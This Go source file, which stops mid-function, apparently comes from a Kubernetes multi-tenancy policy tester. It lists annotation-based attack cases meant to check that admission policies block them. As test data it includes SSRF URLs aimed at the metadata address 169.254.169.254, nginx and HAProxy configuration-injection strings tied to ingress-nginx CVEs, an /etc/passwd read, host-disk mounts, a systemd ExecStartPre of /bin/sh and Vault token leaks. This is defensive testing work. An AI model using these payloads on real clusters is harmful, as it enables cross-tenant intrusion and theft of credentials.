package policy

import (
	"slices"
	"strings"

	corev1 "k8s.io/api/core/v1"
	networkingv1 "k8s.io/api/networking/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/apis/meta/v1/unstructured"
	"sigs.k8s.io/controller-runtime/pkg/client"

	"croft.dev/croft/api/v1alpha1"
	"croft.dev/croft/internal/rules/admissionpolicy"
	"croft.dev/croft/internal/rules/attack"
)

const (
	nginx = "nginx.ingress.kubernetes.io/"
	alb   = "alb.ingress.kubernetes.io/"
	lb    = "service.beta.kubernetes.io/"
	// unknownAnnotation belongs to an add-on that does not exist.
	unknownAnnotation = "croft-verify.example.net/act"
	// outsideURL is a URL that a platform may allow, and grantedCertificate an annotation
	// that it may allow by the key alone.
	outsideURL         = "https://login.corp.example.org/auth"
	grantedCertificate = alb + "certificate-arn"
	aws                = "arn:aws:acm:eu-west-1:111122223333:certificate/other"
)

// annotationAttack is an attack by an annotation.
type annotationAttack struct{ name, summary, rule, key, value string }

// buildAddonAttacks have add-ons act with the add-ons' own permissions.
func (s scene) buildAddonAttacks() []attack.Attack {
	return slices.Concat(s.buildHostAnnotationAttacks(), s.buildURLAnnotationAttacks(), s.buildValueAnnotationAttacks(), s.buildReferenceAnnotationAttacks(), s.buildWithheldAnnotationAttacks(),
		s.buildGatewayAnnotationAttacks(), s.buildCopyAttacks(), s.buildPodAnnotationAttacks(), s.buildUnknownAnnotationAttacks())
}

// makeAnnotated returns an Ingress with an annotation, or, for a tenant without a host, a
// Service. Add-ons read the annotations of both alike.
func (s scene) makeAnnotated(name, key, value string) client.Object {
	if s.host == "" {
		return &corev1.Service{
			TypeMeta:   metav1.TypeMeta{APIVersion: "v1", Kind: "Service"},
			ObjectMeta: metav1.ObjectMeta{Namespace: s.own, Name: "croft-" + name, Annotations: map[string]string{key: value}},
			Spec:       corev1.ServiceSpec{Type: corev1.ServiceTypeClusterIP, Ports: []corev1.ServicePort{{Port: 80}}},
		}
	}
	return s.makeIngress(name, func(i *networkingv1.Ingress) { i.Annotations = map[string]string{key: value} })
}

// makeAnnotationMirrors returns mirrors, each of a name, a summary, and an annotation's key and value.
func (s scene) makeAnnotationMirrors(all ...[4]string) []attack.Attack {
	mirrors := make([]attack.Attack, len(all))
	for i, m := range all {
		mirrors[i] = attack.NewCreate(m[0], m[1], attack.Nobody, s.makeAnnotated(m[0], m[2], m[3]))
	}
	return mirrors
}

func (s scene) makeAnnotationAttacks(why string, references []string, all ...annotationAttack) []attack.Attack {
	attacks := make([]attack.Attack, len(all))
	for i, a := range all {
		attacks[i] = attack.NewCreate(a.name, a.summary, attack.ByPolicy(AnnotationsPolicy, a.rule), s.makeAnnotated(a.name, a.key, a.value))
	}
	return attack.WithReason(why, references, attacks...)
}

func (s scene) buildHostAnnotationAttacks() []attack.Attack {
	rule := AnnotatedHostsRule
	all := s.makeAnnotationAttacks("a tenant that serves another's host can read its users' passwords", nil,
		annotationAttack{"serve-alias", "serve a foreign host as an alias", rule, serverAlias, s.otherHost},
		annotationAttack{"serve-alias-by-expression", "serve every host by an alias that is a regular expression, and ends with a host of one's own", rule, serverAlias, "~^.*$|x." + s.host},
		annotationAttack{"serve-alias-by-haproxy", "serve a foreign host as an alias of HAProxy", rule, "haproxy-ingress.github.io/server-alias", s.otherHost},
		annotationAttack{"serve-alias-by-kong", "serve a foreign host as an alias of Kong", rule, "konghq.com/host-aliases", s.host + "," + s.otherHost},
		annotationAttack{"announce-ingress-as-other-host", "have external-dns point another tenant's host at an Ingress", rule, externalDNS, s.otherHost},
		annotationAttack{"announce-ingress-at-address", "have external-dns point a host of one's own at an address", rule, "external-dns.alpha.kubernetes.io/target", "169.254.169.254"},
		annotationAttack{"announce-ingress-by-kops", "have kops' dns-controller point another tenant's host at an Ingress", rule, "dns.alpha.kubernetes.io/external", s.otherHost},
		annotationAttack{"announce-ingress-by-mate", "have another DNS controller point another tenant's host at an Ingress", rule, "zalando.org/dnsname", s.otherHost},
		annotationAttack{"announce-ingress-by-gardener", "have Gardener point another tenant's host at an Ingress", rule, "dns.gardener.cloud/dnsnames", s.otherHost},
		annotationAttack{"certify-other-host-by-annotation", "have cert-manager certify another tenant's host for an Ingress", rule, "cert-manager.io/common-name", s.otherHost},
	)
	if s.host != "" {
		announce := func(o client.Object) { o.SetAnnotations(map[string]string{externalDNS: s.otherHost}) }
		by := attack.ByPolicy(AnnotationsPolicy, rule)
		marked := s.makeIngress("announce-by-mark", func(i *networkingv1.Ingress) {
			announce(i)
			i.Labels = map[string]string{v1alpha1.ManagedByLabel: v1alpha1.ManagedBy}
		})
		all = append(all, attack.WithReason("a tenant that serves another's host can read its users' passwords", nil,
			attack.NewUpdate("announce-ingress-as-other-host-later", "have external-dns point another tenant's host at an existing Ingress", by,
				s.makeIngress("announce-ingress-later"), func(i *networkingv1.Ingress) { announce(i) }),
			attack.NewUpdate("announce-gateway-as-other-host-later", "have external-dns point another tenant's host at an existing Gateway", by,
				s.makeGateway("announce-gateway-later", s.host), func(u *unstructured.Unstructured) { announce(u) }),
			attack.NewCreate("announce-ingress-by-mark", "have external-dns point another tenant's host at an Ingress that has croft's mark", by, marked),
		)...)
		all = append(all, s.makeAnnotationMirrors(
			[4]string{"serve-own-alias", "serve hosts of one's own as aliases", serverAlias, strings.ToUpper(s.host) + ", " + s.host},
			[4]string{"announce-hosts-of-ingress-by-gardener", "have Gardener point the hosts of an Ingress at it", "dns.gardener.cloud/dnsnames", "*"},
			[4]string{"announce-ingress", "have external-dns point a host of one's own at an Ingress", externalDNS, s.host},
		)...)
	}
	return all
}

func (s scene) buildURLAnnotationAttacks() []attack.Attack {
	call := func(name, summary, url string) annotationAttack {
		return annotationAttack{name, "have the ingress controller call " + summary, URLsRule, nginx + "auth-url", url}
	}
	all := s.makeAnnotationAttacks("the controller reaches every tenant, and so does a tenant that directs it", []string{"CVE-2025-24514"},
		call("call-other-by-auth-url", "another tenant's Service", "http://web."+s.other+".svc.cluster.local/"),
		call("call-other-by-short-url", "another tenant's Service by its short name", "http://web."+s.other+"/"),
		call("call-other-in-capitals", "another tenant's Service, in capitals", "http://web."+s.other+".SVC/"),
		call("call-other-by-pod", "another tenant's pod by the name that DNS gives it", "http://10-0-0-1."+s.other+".pod.cluster.local/"),
		call("call-address-by-auth-url", "an address", "http://169.254.169.254/latest/meta-data/"),
		call("call-octal-address", "an address written in octal numbers", "http://0251.0376.0251.0376/"),
		call("call-hexadecimal-address", "an address written as one hexadecimal number", "http://0xa9fea9fe/"),
		call("call-address-by-name", "an address by a name outside that resolves to it", "http://169.254.169.254.nip.io/"),
		call("call-metadata-by-name", "the metadata address by its name", "http://metadata.google.internal/"),
		call("call-user-at-other", "another tenant's Service behind a host of one's own", "http://"+s.host+"@web."+s.other+".svc/"),
		call("call-address-before-fragment", "an address that looks like a Service of one's own, by a fragment", "http://169.254.169.254#."+s.own+".svc/"),
		call("call-and-configure", "a Service of one's own, and configure nginx behind it", "http://auth."+s.own+".svc/#;\nload_module /tmp/x.so;"),
		call("call-anything-by-variable", "any address in a request", "http://$arg_target/"),
		annotationAttack{"call-other-by-mirror", "have the ingress controller mirror requests to another tenant's Service", URLsRule, nginx + "mirror-target", "http://web." + s.other + ".svc:80/"},
		annotationAttack{"call-other-by-haproxy", "have HAProxy call another tenant's Service", URLsRule, "haproxy-ingress.github.io/auth-url", "http://web." + s.other + ".svc:80/"},
	)
	if slices.Contains(s.attacker.Allowances.Annotations, nginx+"auth-url="+outsideURL) {
		all = append(all, s.makeAnnotationMirrors([4]string{"sign-in-by-another-host-as-allowed", "have ingress-nginx ask a host outside which requests to allow, as the tenant may", nginx + "auth-url", outsideURL})...)
	} else {
		all = append(all, s.makeAnnotationAttacks("a name outside of the cluster may resolve to any address", nil, call("sign-in-by-another-host", "a host outside that was not granted", outsideURL))...)
	}
	if platform := s.platform.Network.PlatformNamespaces; len(platform) > 0 {
		all = append(all, s.makeAnnotationMirrors([4]string{"sign-in-by-platform-service", "have ingress-nginx ask a Service of the platform which requests to allow", nginx + "auth-url", "http://auth." + platform[0] + ".svc.cluster.local/oauth2/auth"})...)
	}
	return append(all, s.makeAnnotationMirrors(
		[4]string{"sign-in-by-own-service", "have ingress-nginx ask a Service of one's own which requests to allow", nginx + "auth-url", "http://auth." + s.own + ".SVC.cluster.local:4180/oauth2/auth?x=$request_uri"},
		[4]string{"sign-in-by-own-host", "have ingress-nginx ask the host itself which requests to allow", nginx + "auth-url", "https://$host/oauth2/auth"},
	)...)
}

func (s scene) buildValueAnnotationAttacks() []attack.Attack {
	all := s.makeAnnotationAttacks("the controller serves every tenant, and reads every tenant's Secrets", []string{"CVE-2025-1097", "CVE-2023-5044", "CVE-2021-25746"},
		annotationAttack{"configure-by-match-cn", "configure nginx behind the name of a client", ValuesRule, nginx + "auth-tls-match-cn", "CN=abc #(\n){}\n }}\nssl_engine /tmp/x.so;\n#"},
		annotationAttack{"configure-by-redirect", "configure nginx behind a redirect", ValuesRule, nginx + "permanent-redirect", "https://" + s.host + ";} location /x { return 200;"},
		annotationAttack{"configure-by-rewrite", "configure nginx behind a rewritten path", ValuesRule, nginx + "rewrite-target", "/\n}\nserver_name _"},
		annotationAttack{"configure-haproxy-by-header", "configure HAProxy behind a header", ValuesRule, "haproxy.org/set-host", "x\n  server evil 169.254.169.254:80"},
		annotationAttack{"add-host-to-load-balancer", "add a foreign host to a rule of the AWS load balancer", ValuesRule, alb + "conditions.web",
			`[{"field":"host-header","hostHeaderConfig":{"values":["` + foreignHost + `"]}}]`},
		annotationAttack{"add-host-to-load-balancer-escaped", "add a foreign host to a rule of the AWS load balancer, with escapes", ValuesRule, alb + "conditions.web",
			`[{"field":"host\u002dheader","host\u0048eaderConfig":{"values":["` + foreignHost + `"]}}]`},
		annotationAttack{"forward-to-other-target-group", "have the AWS load balancer forward to another tenant's targets", ValuesRule, alb + "actions.web",
			`{"type":"forward","targetGroupARN":"arn:aws:elasticloadbalancing:eu-west-1:1:targetgroup/other/1"}`},
		annotationAttack{"forward-to-other-target-group-by-name", "have the AWS load balancer forward to another tenant's targets, for a backend that is called as an add-on",
			ValuesRule, alb + "actions.external-dns", `{"type":"forward","targetGroupARN":"arn:aws:elasticloadbalancing:eu-west-1:1:targetgroup/other/1"}`},
		annotationAttack{"forward-to-other-target-group-by-weight", "have the AWS load balancer forward a part of the requests to another tenant's targets", ValuesRule, alb + "actions.web",
			`{"type":"forward","forwardConfig":{"targetGroups":[{"targetGroupName":"other","weight":1}]}}`},
		annotationAttack{"write-access-logs", "write access logs to any bucket", ValuesRule, alb + "load-balancer-attributes", "idle_timeout.timeout_seconds=600,access_logs.s3.enabled=true,access_logs.s3.bucket=other"},
		annotationAttack{"keep-load-balancer", "keep a load balancer, and with it the namespace, from being deleted", ValuesRule, lb + "aws-load-balancer-attributes", "deletion_protection.enabled=true"},
		annotationAttack{"name-group-of-endpoints", "take a group of endpoints of GKE by its name", ValuesRule, "cloud.google.com/neg", `{"exposed_ports":{"80":{"name":"other"}}}`},
		annotationAttack{"listen-at-other-entry-point", "listen at an entry point of the platform's own", ValuesRule, "traefik.ingress.kubernetes.io/router.entrypoints", "websecure,traefik"},
	)
	return append(all, s.makeAnnotationMirrors(
		[4]string{"rewrite-paths", "have ingress-nginx rewrite paths", nginx + "rewrite-target", "/$1"},
		[4]string{"redirect-by-load-balancer", "have the AWS load balancer redirect", alb + "actions.redirect", "{\"type\":\"redirect\",\n\"redirectConfig\":{\"protocol\":\"HTTPS\",\"port\":\"443\",\"statusCode\":\"HTTP_301\"}}"},
		[4]string{"forward-by-weight", "have the AWS load balancer forward to Services of one's own by weight, as Argo Rollouts does", alb + "actions.web",
			`{"type":"forward","ForwardConfig":{"TargetGroups":[{"ServiceName":"web","ServicePort":"80","Weight":90},{"ServiceName":"web-canary","ServicePort":"80","Weight":10}]}}`},
		[4]string{"set-idle-timeout", "set how long a load balancer keeps idle connections", alb + "load-balancer-attributes", "idle_timeout.timeout_seconds=600,routing.http2.enabled=true"},
		[4]string{"balance-by-endpoints", "have GKE balance by endpoints, as its webhook does", "cloud.google.com/neg", `{"ingress":true}`},
		[4]string{"listen-at-usual-entry-points", "listen at Traefik's usual entry points", "traefik.ingress.kubernetes.io/router.entrypoints", "web, websecure"},
	)...)
}

func (s scene) buildReferenceAnnotationAttacks() []attack.Attack {
	all := s.makeAnnotationAttacks("the controller reads every tenant's objects", []string{ingressSnippets},
		annotationAttack{"read-other-secret", "have ingress-nginx read a Secret of another tenant", ReferencesRule, nginx + "auth-secret", s.other + "/passwords"},
		annotationAttack{"read-other-certificate", "have ingress-nginx read a certificate of another tenant", ReferencesRule, nginx + "auth-tls-secret", s.other + "/tls"},
		annotationAttack{"read-other-certificate-by-haproxy", "have HAProxy read a certificate of another tenant", ReferencesRule, "haproxy-ingress.github.io/auth-tls-secret", s.other + "/tls"},
		annotationAttack{"read-file-by-haproxy", "have HAProxy read a file of its own", ReferencesRule, "haproxy-ingress.github.io/secure-verify-ca-secret", "file:///etc/passwd"},
		annotationAttack{"use-other-certificate-by-contour", "have Contour use a certificate of another tenant", ReferencesRule, "projectcontour.io/tls-cert-namespace", s.other},
		annotationAttack{"use-other-middleware", "have Traefik use a middleware of another tenant", ReferencesRule, "traefik.ingress.kubernetes.io/router.middlewares", s.own + "-a@kubernetescrd," + s.other + "-auth@kubernetescrd"},
		annotationAttack{"use-other-transport", "have Traefik call by another tenant's settings of TLS", ReferencesRule, "traefik.ingress.kubernetes.io/service.serverstransport", s.other + "-skip@kubernetescrd"},
		annotationAttack{"join-other-load-balancer", "join a load balancer of another tenant", ReferencesRule, alb + "group.name", s.other},
	)
	return append(all, s.makeAnnotationMirrors(
		[4]string{"read-own-secret", "have ingress-nginx read a Secret of one's own", nginx + "auth-secret", s.own + "/passwords"},
		[4]string{"read-secret-beside", "have ingress-nginx read a Secret of the same namespace", nginx + "auth-secret", "passwords"},
		[4]string{"use-own-middleware", "have Traefik use a middleware of one's own", "traefik.ingress.kubernetes.io/router.middlewares", s.own + "-auth@kubernetescrd"},
		[4]string{"use-own-transport", "have Traefik call by settings of TLS of one's own", "traefik.ingress.kubernetes.io/service.serverstransport", s.own + "-skip@kubernetescrd"},
		[4]string{"share-own-load-balancer", "share a load balancer among Ingresses of one's own", alb + "group.name", s.own + ".web"},
		[4]string{"use-own-certificate-by-contour", "have Contour use a certificate of one's own", "projectcontour.io/tls-cert-namespace", s.own},
	)...)
}

func (s scene) buildWithheldAnnotationAttacks() []attack.Attack {
	snippet := "more_set_headers \"x: y\";"
	withheld := func(name, summary, key, value string) annotationAttack {
		return annotationAttack{name, summary, WithheldRule, key, value}
	}
	all := s.makeAnnotationAttacks("the controller serves every tenant, and reads every tenant's Secrets", []string{"CVE-2021-25742", ingressSnippets},
		withheld("write-configuration-snippet", "write configuration into ingress-nginx by a snippet", nginx+"configuration-snippet", snippet),
		withheld("write-server-snippet", "write configuration into ingress-nginx by a server snippet", nginx+"server-snippet", snippet),
		withheld("write-nginx-org-snippet", "write configuration into NGINX's own controller", "nginx.org/location-snippets", snippet),
		withheld("write-snippet-of-any", "write configuration into a controller by a snippet with any prefix", "ingress.example.org/server-snippet", snippet),
		withheld("write-haproxy-config", "write configuration into HAProxy's controller", "haproxy-ingress.github.io/config-backend", "acl x"),
		withheld("write-skipper-route", "write routes into Skipper", "zalando.org/skipper-routes", `x: * -> "http://web.`+s.other+`.svc";`),
		withheld("match-aliases-by-expression", "serve hosts that match an expression", "haproxy-ingress.github.io/server-alias-regex", ".*"),
	)
	more := s.makeAnnotationAttacks("all tenants share the cloud account's resources", nil,
		withheld("use-firewall", "put a firewall of the account before a load balancer", alb+"wafv2-acl-arn", aws),
		withheld("use-tags", "give a load balancer the tags of another tenant", alb+"tags", "costCode=other"),
		withheld("use-security-groups", "put a load balancer into any security group", lb+"aws-load-balancer-security-groups", "sg-other"),
		withheld("claim-elastic-address", "claim an elastic address of the account", lb+"aws-load-balancer-eip-allocations", "eipalloc-1"),
		withheld("share-other-address", "share the address of another tenant's Service", "metallb.io/allow-shared-ip", "other"),
		withheld("claim-address-by-annotation", "claim an address of a load balancer", "metallb.universe.tf/loadBalancerIPs", "203.0.113.7"),
		withheld("claim-address-by-cilium", "claim an address of Cilium's", "lbipam.cilium.io/ips", "203.0.113.7"),
		withheld("claim-address-by-purelb", "claim an address of PureLB's", "purelb.io/addresses", "203.0.113.7"),
		withheld("claim-address-by-f5", "claim an address of F5's BIG-IP", "cis.f5.com/ip", "203.0.113.7"),
		withheld("claim-address-by-ako", "claim an address of AVI's", "ako.vmware.com/load-balancer-ip", "203.0.113.7"),
		withheld("take-load-balancer-of-huawei", "take over a load balancer of Huawei Cloud", "kubernetes.io/elb.id", "other"),
		withheld("claim-address-by-kube-vip", "claim an address of kube-vip's", "kube-vip.io/loadbalancerIPs", "203.0.113.7"),
		withheld("share-address-across-namespaces", "share an address of Cilium's with every namespace", "lbipam.cilium.io/sharing-cross-namespace", "*"),
		withheld("join-clusters-by-alias", "join a Service with Services of other clusters by an older name", "io.cilium/global-service", "true"),
		withheld("prefer-other-cluster", "prefer the backends of another cluster", "service.cilium.io/affinity", "remote"),
		withheld("take-load-balancer-of-digitalocean", "take over a load balancer of DigitalOcean", "kubernetes.digitalocean.com/load-balancer-id", "4de7ac8b"),
		withheld("take-load-balancer-of-hetzner", "take over a load balancer of Hetzner Cloud", "load-balancer.hetzner.cloud/name", "other"),
		withheld("take-load-balancer-of-alibaba", "take over a load balancer of Alibaba Cloud", lb+"alibaba-cloud-loadbalancer-id", "lb-other"),
		withheld("take-load-balancer-of-openstack", "take over a load balancer of OpenStack", "loadbalancer.openstack.org/load-balancer-id", "other"),
		withheld("map-any-host-by-ambassador", "have Ambassador serve any host", "getambassador.io/config", "apiVersion: getambassador.io/v3alpha1\nkind: Mapping\nhostname: \"*\"\nservice: web."+s.other+"\n"),
		withheld("proxy-anything-by-bluemix", "have IBM Cloud's Ingress send requests anywhere", "ingress.bluemix.net/proxy-external-service", "path=/x external-svc=http://169.254.169.254"),
		withheld("join-clusters", "join a Service with Services of other clusters", "service.cilium.io/global", "true"),
		withheld("open-to-other-network", "open a Service to another network", "tailscale.com/expose", "true"),
		withheld("certify-organization", "ask for a certificate of Kubernetes' administrators", "cert-manager.io/subject-organizations", "system:masters"),
	)
	all = append(all, more...)
	if slices.Contains(s.attacker.Allowances.Annotations, grantedCertificate) {
		return append(all, s.makeAnnotationMirrors([4]string{"use-certificate-as-allowed", "use a certificate of the account, as the tenant may", grantedCertificate, aws})...)
	}
	all = append(all, s.makeAnnotationMirrors(
		[4]string{"balance-by-digitalocean", "configure the balancing of a load balancer of DigitalOcean", lb + "do-loadbalancer-protocol", "http"},
		[4]string{"balance-by-hetzner", "configure the balancing of a load balancer of Hetzner Cloud", "load-balancer.hetzner.cloud/algorithm-type", "least_connections"},
		[4]string{"balance-by-cilium", "configure the balancing of Cilium", "service.cilium.io/lb-algorithm", "maglev"},
	)...)
	return append(all, s.makeAnnotationAttacks("the holder of the certificate can impersonate the host", nil, withheld("use-certificate", "use any certificate of the account", grantedCertificate, aws))...)
}

// buildGatewayAnnotationAttacks have a Gateway's controller annotate the objects that it creates.
func (s scene) buildGatewayAnnotationAttacks() []attack.Attack {
	if s.host == "" {
		return nil
	}
	handed := func(name, key, value string) client.Object {
		u := s.makeGateway(name, s.host)
		setField(u, value, "spec", "infrastructure", "annotations", key)
		return u
	}
	opened := s.makeGateway("open-to-clusters", s.host)
	setField(opened, "true", "spec", "infrastructure", "labels", "mirror.linkerd.io/exported")
	return attack.WithReason("the Gateway's controller writes the Service with its own rights", nil,
		attack.NewCreate("announce-gateway-by-infrastructure", "have the Service of a Gateway announced as another tenant's host", attack.ByPolicy(AnnotationsPolicy, AnnotatedHostsRule),
			handed("announce-by-infrastructure", externalDNS, s.otherHost)),
		attack.NewCreate("claim-address-by-infrastructure", "have the Service of a Gateway claim an address", attack.ByPolicy(AnnotationsPolicy, WithheldRule),
			handed("claim-by-infrastructure", "metallb.io/loadBalancerIPs", "203.0.113.7")),
		attack.NewCreate("open-gateway-to-clusters", "have the Service of a Gateway opened to other clusters by a label", attack.ByPolicy(AnnotationsPolicy, LabelsRule), opened),
		attack.NewCreate("announce-gateway", "have the Service of a Gateway announced as a host of one's own", attack.Nobody, handed("announce-gateway-own", externalDNS, s.host)),
	)
}

// buildCopyAttacks are Secrets, ConfigMaps and claims that add-ons copy or mistake for their own.
func (s scene) buildCopyAttacks() []attack.Attack {
	secret := func(name string, annotations, labels map[string]string) *corev1.Secret {
		return &corev1.Secret{TypeMeta: makeCoreMeta("Secret"), ObjectMeta: metav1.ObjectMeta{Namespace: s.own, Name: "croft-" + name, Annotations: annotations, Labels: labels}}
	}
	by := func(rule string) attack.Stopper { return attack.ByPolicy(AnnotationsPolicy, rule) }
	one := func(name, summary, rule, key, value string) attack.Attack {
		return attack.NewCreate(name, summary, by(rule), secret(name, map[string]string{key: value}, nil))
	}
	const reflector, replicator = "reflector.v1.k8s.emberstack.com/", "replicator.v1.mittwald.de/"
	cluster := map[string]string{"argocd.argoproj.io/secret-type": "cluster"}
	claim := func(name, key, value string) client.Object {
		c := &corev1.PersistentVolumeClaim{TypeMeta: makeCoreMeta("PersistentVolumeClaim"), ObjectMeta: s.makeMeta(name), Spec: s.makeClaimSpec()}
		c.Annotations = map[string]string{key: value}
		return c
	}
	rego := &corev1.ConfigMap{TypeMeta: makeCoreMeta("ConfigMap"), ObjectMeta: s.makeMeta("pass-for-policy")}
	rego.Labels = map[string]string{"openpolicyagent.org/policy": "rego"}
	as3 := &corev1.ConfigMap{TypeMeta: makeCoreMeta("ConfigMap"), ObjectMeta: s.makeMeta("configure-big-ip")}
	as3.Labels = map[string]string{"f5type": "virtual-server", "as3": "true"}
	member := &corev1.Service{TypeMeta: makeCoreMeta("Service"), ObjectMeta: s.makeMeta("take-requests-of-pool"), Spec: corev1.ServiceSpec{Type: corev1.ServiceTypeClusterIP, Ports: []corev1.ServicePort{{Port: 80}}}}
	member.Labels = map[string]string{"cis.f5.com/as3-tenant": s.other, "cis.f5.com/as3-pool": "web"}
	config := &corev1.ConfigMap{TypeMeta: makeCoreMeta("ConfigMap"), ObjectMeta: s.makeMeta("copy-everywhere-by-kubed")}
	config.Annotations = map[string]string{"kubed.appscode.com/sync": ""}
	return attack.WithReason("a controller that copies Secrets reads and writes those of every tenant", nil,
		one("copy-other-secret-by-reflector", "have Reflector copy another tenant's Secret", ReferencesRule, reflector+"reflects", s.other+"/passwords"),
		one("copy-other-secret-by-replicator", "have kubernetes-replicator copy another tenant's Secret", ReferencesRule, replicator+"replicate-from", s.other+"/passwords"),
		one("copy-everywhere-by-reflector", "have Reflector copy a Secret into every namespace", WithheldRule, reflector+"reflection-auto-enabled", "true"),
		one("copy-everywhere-by-replicator", "have kubernetes-replicator copy a Secret into every namespace", WithheldRule, replicator+"replicate-to", "*"),
		attack.NewCreate("copy-everywhere-by-kubed", "have kubed copy a ConfigMap into every namespace", by(WithheldRule), config),
		attack.NewUpdate("copy-other-secret-later", "have Reflector copy another tenant's Secret into an existing one", by(ReferencesRule), secret("copy-other-later", nil, nil), func(o *corev1.Secret) {
			o.Annotations = map[string]string{reflector + "reflects": s.other + "/passwords"}
		}),
		attack.NewCreate("pass-for-cluster-secret", "disguise a Secret as one of Argo CD's clusters", by(LabelsRule), secret("pass-for-cluster", nil, cluster)),
		attack.NewUpdate("pass-for-cluster-secret-later", "disguise an existing Secret as one of Argo CD's clusters", by(LabelsRule), secret("pass-for-cluster-later", nil, nil), func(o *corev1.Secret) { o.Labels = cluster }),
		attack.NewUpdate("pass-for-repository-credentials", "disguise an existing Secret as credentials of all of Argo CD's repositories", by(LabelsRule), secret("pass-for-credentials", nil, nil), func(o *corev1.Secret) {
			o.Labels = map[string]string{"argocd.argoproj.io/secret-type": "repo-creds"}
		}),
		attack.NewCreate("configure-big-ip", "have F5's controller configure the load balancer by a ConfigMap", by(LabelsRule), as3),
		attack.NewCreate("take-requests-of-pool", "have F5's controller send another tenant's requests to a Service", by(LabelsRule), member),
		attack.NewCreate("import-other-volume", "have Trident make any volume of the storage system one's own", by(WithheldRule), claim("import-other-volume", "trident.netapp.io/importOriginalName", "other")),
		attack.NewCreate("speed-volume-up", "have a volume of EBS get a speed that its class does not allow", by(WithheldRule), claim("speed-volume-up", "ebs.csi.aws.com/iops", "64000")),
		attack.NewCreate("pass-for-authority", "have Kong trust a certificate for everybody's clients", by(LabelsRule), secret("pass-for-authority", nil, map[string]string{"konghq.com/ca-cert": "true"})),
		attack.NewCreate("pass-for-policy", "have Open Policy Agent load a ConfigMap as a policy of the cluster", by(LabelsRule), rego),
		attack.NewCreate("import-from-address", "have CDI fill a volume from an address", by(URLsRule), claim("import-from-address", "cdi.kubevirt.io/storage.import.endpoint", "http://169.254.169.254/")),
		attack.NewCreate("copy-other-volume", "have CDI copy another tenant's volume", by(WithheldRule), claim("copy-other-volume", "cdi.kubevirt.io/storage.clone.token", s.other)),
		attack.NewCreate("import-own", "have CDI fill a volume from a Service of one's own", attack.Nobody, claim("import-own", "cdi.kubevirt.io/storage.import.endpoint", "http://files."+s.own+".svc/disk.img")),
		attack.NewCreate("copy-own-secret", "have Reflector copy a Secret of one's own", attack.Nobody, secret("copy-own-secret", map[string]string{reflector + "reflects": s.own + "/passwords"}, map[string]string{"app": "web"})),
	)
}

// buildPodAnnotationAttacks have add-ons that act on pods do so.
func (s scene) buildPodAnnotationAttacks() []attack.Attack {
	var all []attack.Attack
	annotate := func(key, value string) map[string]string { return map[string]string{key: value} }
	by := func(name, summary, rule, key, value string) {
		all = append(all, attack.NewCreate(name, summary, attack.ByPolicy(admissionpolicy.PodsPolicy, rule), s.makePod(name, func(p *corev1.Pod) { p.Annotations = annotate(key, value) })))
	}
	refused := func(name, summary, key, value string) { by(name, summary, PodAnnotationsRule, key, value) }
	inTemplate := func(name, summary, rule string, edit func(*corev1.PodTemplateSpec)) {
		all = append(all, attack.NewCreate(name, summary, attack.ByWarning(admissionpolicy.PodTemplatesPolicy, rule), s.makeDeployment(name, edit)))
	}
	may := func(name, summary, key, value string) {
		all = append(all, attack.NewCreate(name, summary, attack.Nobody, s.makePod(name, func(p *corev1.Pod) { p.Annotations = annotate(key, value) })))
	}
	const role, networks = "iam.amazonaws.com/role", "k8s.v1.cni.cncf.io/networks"
	refused("assume-any-role", "have kube2iam give a pod any role of the nodes", role, "arn:aws:iam::111122223333:role/admin")
	refused("take-other-address", "have Calico give a pod another pod's address", "cni.projectcalico.org/ipAddrs", `["10.0.0.1"]`)
	refused("forge-addresses", "have Calico let a pod send with any source address", "cni.projectcalico.org/allowedSourcePrefixes", `["10.0.0.0/8"]`)
	refused("take-other-interface", "give a pod another pod's network interface", "vpc.amazonaws.com/pod-eni", `[{"eniId":"eni-1"}]`)
	refused("replace-network", "replace the network to which policies apply", "v1.multus-cni.io/default-network", s.own+"/net1")
	refused("attach-other-network", "attach a pod to another tenant's network", networks, s.own+"/net1, "+s.other+"/net1@eth1")
	refused("attach-other-network-by-json", "attach a pod to another tenant's network by JSON", networks, `[{"name":"net1","namespace":"`+s.other+`"}]`)
	refused("attach-other-network-by-escapes", "attach a pod to another tenant's network by JSON with escapes", networks, `[{"name":"net1","name\u0073pace":"`+s.other+`"}]`)
	refused("attach-other-network-in-capitals", "attach a pod to another tenant's network by JSON whose keys are in capitals", networks, `[{"name":"net1","Namespace":"`+s.other+`"}]`)
	refused("attach-other-network-twice", "attach a pod to another tenant's network by JSON that names two namespaces", networks, `[{"name":"net1","namespace":"`+s.own+`","namespace":"`+s.other+`"}]`)
	refused("take-address-of-network", "take another pod's address on a network of one's own", networks, `[{"name":"net1","ips":["10.0.0.1/24"],"mac":"02:00:00:00:00:01"}]`)
	refused("take-other-address-by-ovn", "have OVN give a pod another pod's address", "k8s.ovn.org/pod-networks", `{"default":{"ip_addresses":["10.244.1.7/24"]}}`)
	refused("take-other-address-past-ipam", "have Calico give a pod another pod's address without asking its IPAM", "cni.projectcalico.org/ipAddrsNoIpam", `["10.244.1.7"]`)
	refused("take-other-hardware-address", "have Calico give a pod another pod's hardware address", "cni.projectcalico.org/hwAddr", "02:00:00:00:00:01")
	refused("spoof-by-cilium", "have Cilium let a pod send with any source address", "config.cilium.io/disable-source-ip-verification", "true")
	refused("take-hardware-address-by-cilium", "have Cilium give a pod another pod's hardware address", "cni.cilium.io/mac-address", "02:00:00:00:00:01")
	refused("take-network-of-node", "get an interface of the node's network from OpenShift", "pod.network.openshift.io/assign-macvlan", "true")
	refused("join-security-group-by-terway", "put a pod into any security group of Alibaba Cloud", "network.alibabacloud.com/security-group-ids", "sg-other")
	refused("mount-device-by-crio", "have CRI-O give a pod a disk of the node", "io.kubernetes.cri-o.Devices", "/dev/sda:/dev/sda:rwm")
	refused("mount-device-by-crio-today", "have CRI-O give a pod a disk of the node by the annotation's newer name", "devices.crio.io", "/dev/sda:/dev/sda:rwm")
	refused("mount-by-gvisor", "have gVisor mount the node's root", "dev.gvisor.spec.mount.v.source", "/")
	refused("set-unit-of-systemd", "have runc set properties of the pod's unit of systemd", "org.systemd.property.ExecStartPre", "'/bin/sh'")
	refused("show-token-to-address", "have Vault's agent show a pod's token to an address", "vault.hashicorp.com/service", "http://169.254.169.254")
	refused("show-token-to-other", "have Vault's agent show a pod's token to another tenant's Service", "vault.hashicorp.com/service", "http://vault."+s.other+".svc:8200")
	refused("inject-volume-by-istio", "have Istio's injector mount the node's root", "sidecar.istio.io/userVolume", `[{"name":"h","hostPath":{"path":"/"}}]`)
